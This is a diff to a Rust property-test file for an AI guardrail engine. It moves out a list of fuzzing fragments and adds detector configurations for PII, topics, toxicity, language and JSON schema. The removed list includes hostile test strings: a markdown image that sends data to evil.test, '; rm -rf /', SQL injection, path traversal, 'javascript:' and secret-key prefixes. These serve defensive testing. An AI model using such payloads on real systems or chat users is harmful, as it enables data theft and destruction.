@@ -6,106 +6,11 @@ use guardmesh_guard_engine::{Finding, Guard, redact};
 use proptest::prelude::*;
 use serde_json::json;
 
-use crate::cases::configured;
+use crate::cases::{config, configured};
 use crate::engine;
+use crate::pieces::PIECES;
 use crate::secrets::formats::{FORMATS, NAMED};
 use crate::tokens::Draw;
-
-/// Pieces that rules care about, so that random texts come close to matches.
-const PIECES: &[&str] = &[
-    "a",
-    "Z",
-    "0",
-    "9",
-    "1234",
-    "4111 1111 1111 1111",
-    "+1 415 555 2671",
-    "(415) ",
-    "-",
-    ".",
-    ":",
-    "::",
-    "/",
-    "@",
-    "x@y.de",
-    " ",
-    "\n",
-    "\"",
-    "'",
-    "=",
-    "\\n",
-    "password",
-    "api_key: ",
-    "token=",
-    "sk-",
-    "ghp_",
-    "AKIA",
-    "eyJ",
-    "-----BEGIN ",
-    "PRIVATE KEY-----",
-    "-----END",
-    "postgres://",
-    "https://",
-    "u:p@h",
-    "[REDACTED:",
-    "email]",
-    "é",
-    "日本",
-    "😀",
-    "\u{200B}",
-    "\u{200D}",
-    "\u{FE0F}",
-    "\u{E0041}",
-    "\u{1F3F4}",
-    "\u{202E}",
-    "\u{AD}",
-    "\u{FEFF}",
-    "ש",
-    "می",
-    "क्",
-    "٣",
-    "\u{3164}",
-    "\u{a0}",
-    "2001:db8::1",
-    "203.0.113.9",
-    "DE89370400440532013000",
-    "536-90-4399",
-    "discord ",
-    "datadog ",
-    "Q~",
-    ":AA",
-    "-us1",
-    ".atlasv1.",
-    "…",
-    "ß",
-    "\0",
-    "![a](https://evil.test/?d={data})",
-    "[x]: //h.test/?q=%7B",
-    "](",
-    "<img src=",
-    "<a href='",
-    ">",
-    "url(",
-    "{",
-    "}",
-    "xn--",
-    "xn--80ak6aa92e.com",
-    "javascript:",
-    "%2e%2e%2f",
-    "' or '1'='1",
-    "; rm -rf /",
-    "$(",
-    "eval(x)",
-    "\"select a from b where c = \" + d",
-    "f'update t set a = {b}'",
-    "password = 'hunter2!'",
-    "verify=False",
-    "раypal",
-    "ABCD-12",
-    "zebra crossing",
-    "Ünïcode",
-    "you are the very model of a modern major general",
-];
 
 pub(crate) fn texts() -> impl Strategy<Value = String> {
     let piece = prop_oneof![
@@ -120,6 +25,13 @@ pub(crate) fn texts() -> impl Strategy<Value = String> {
         3 => prop::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat()),
         1 => any::<String>(),
     ]
+}
+
+/// Topics of words that random texts are likely to have.
+pub(crate) fn topics() -> serde_json::Value {
+    json!({"deny": ["weapons", "adult"], "custom": {"letters": {"threshold": 3,
+        "words": {"a": 1, "é": 1, "password": 2, "zebra crossing": 1.5, "日": 1, "walked": 0.5,
+                  "river in 1987": 1.25, "gesagt": 1, "ש": 2}}}})
 }
 
 /// Guards that find nothing without parameters, with some.
@@ -142,7 +54,22 @@ static CONFIGURED: LazyLock<Vec<Guard>> = LazyLock::new(|| {
             &json!({"allow": ["y.de"], "deny": ["h"], "protect": ["acme.test"]}),
         ),
         configured("exfiltration", &json!({"only_allowed_images": true})),
+        configured("pii", &json!({"regions": ["PL", "NO", "KR", "MX"]})),
         configured("token_limit", &json!({"most": 3})),
+        configured(
+            "token_limit",
+            &json!({"most": 4, "encoding": "cl100k_base"}),
+        ),
+        configured("topics", &topics()),
+        configured(
+            "toxicity",
+            &json!({"kinds": ["insult", "profanity"], "threshold": 0.3}),
+        ),
+        configured("language", &json!({"allow": ["en"], "least_letters": 30})),
+        configured(
+            "json_schema",
+            &json!({"schema": {"items": {"properties": {"a": {"maxLength": 1}}}}, "fenced": true}),
+        ),
         configured(
             "system_prompt_leak",
             &json!({"prompts": ["You are the very model of a modern major general 日本"],
@@ -178,7 +105,7 @@ fn placeholders(text: &str) -> Vec<(usize, usize)> {
 }
 
 proptest! {
-    #![proptest_config(ProptestConfig::with_cases(500))]
+    #![proptest_config(config(500))]
 
     #[test]
     fn places_are_sound(text in texts()) {
